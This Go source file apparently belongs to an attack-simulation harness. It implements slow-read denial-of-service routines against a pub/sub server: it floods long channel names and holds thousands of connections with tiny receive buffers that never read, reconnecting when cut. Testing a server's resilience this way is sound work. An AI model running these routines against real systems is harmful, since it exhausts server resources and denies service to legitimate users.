package attack

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// tiny is a receive buffer that leaves nearly all of an answer to the sender.
const tiny = 2 << 10

// unreadLists lets many wait for a long list that they do not take in. A server
// lists the names that were polled, or only those that were posted to: accomplices
// see to these.
func unreadLists(ctx context.Context, s *scene) error {
	const names, callers = 9990, 8 // with more a server may drop them all
	each(callers, func(part int) {
		c := s.caller(attacker)
		defer c.hangUp()
		for i := part; i < names && ctx.Err() == nil; i += callers {
			c.ask(ctx, s.get("/sub/"+longName(i)+"?since=now&timeout=0"))
		}
	})
	dealt(ctx, names/burst, 16, func(part int) {
		c := s.caller(accomplice(part))
		defer c.hangUp()
		for i := range burst {
			c.ask(ctx, s.say(longName(part*burst+i), "mine"))
		}
	})
	list := &caller{scene: s, from: newcomer(0), counts: new(answers)}
	defer list.hangUp()
	s.note("one list has %s", size(float64(len(list.ask(ctx, s.get("/channels")).body))))
	s.hold(ctx, 1000, s.get("/channels"), true)
	return nil
}

func longName(i int) string {
	name := fmt.Sprintf("%05d-", i)
	return name + strings.Repeat("n", 128-len(name))
}

// unreadPages lets as many as may connect wait for pages that they do not take in.
func unreadPages(ctx context.Context, s *scene) error {
	taken := s.fill(ctx, 1000, func(int) string { return "pages" })
	s.note("%d messages of 16 KB filled the channel", taken)
	s.hold(ctx, 5000, s.get("/sub/pages?since=all&timeout=0"), false)
	return nil
}

// hold opens n connections, asks on each and reads nothing until ctx ends. With
// again, who is cut off connects anew.
func (s *scene) hold(ctx context.Context, n int, request []byte, again bool) {
	var open, refused, cut atomic.Int64
	slots := make(chan struct{}, 64) // that connect at the same time
	each(n, func(int) {
		for {
			slots <- struct{}{}
			conn, err := s.askAndLeave(ctx, attacker, request)
			<-slots
			if err != nil {
				refused.Add(1)
			} else {
				open.Add(1)
				if untilCut(ctx, conn) {
					cut.Add(1)
				}
				conn.Close()
			}
			if !again || !pause(ctx, time.Second) {
				return
			}
		}
	})
	s.note("%d connections held, %d of them cut by the server, %d not had", open.Load(), cut.Load(), refused.Load())
}

// askAndLeave connects and asks, and has next to no room for the answer.
func (s *scene) askAndLeave(ctx context.Context, from address, request []byte) (net.Conn, error) {
	conn, err := s.dial(ctx, from, tiny)
	if err != nil {
		return nil, err
	}
	conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := conn.Write(request); err != nil {
		conn.Close()
		return nil, err
	}
	return conn, nil
}

// untilCut waits, without reading, until the server has cut the connection, or
// returns false when ctx ends before.
func untilCut(ctx context.Context, conn net.Conn) bool {
	raw, err := conn.(*net.TCPConn).SyscallConn()
	if err != nil {
		return false
	}
	for pause(ctx, 500*time.Millisecond) {
		if !established(raw) {
			return true
		}
	}
	return false
}

func established(raw syscall.RawConn) (yes bool) {
	const state = 1 // TCP_ESTABLISHED
	raw.Control(func(fd uintptr) {
		info, err := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO)
		yes = err == nil && info.State == state
	})
	return yes
}
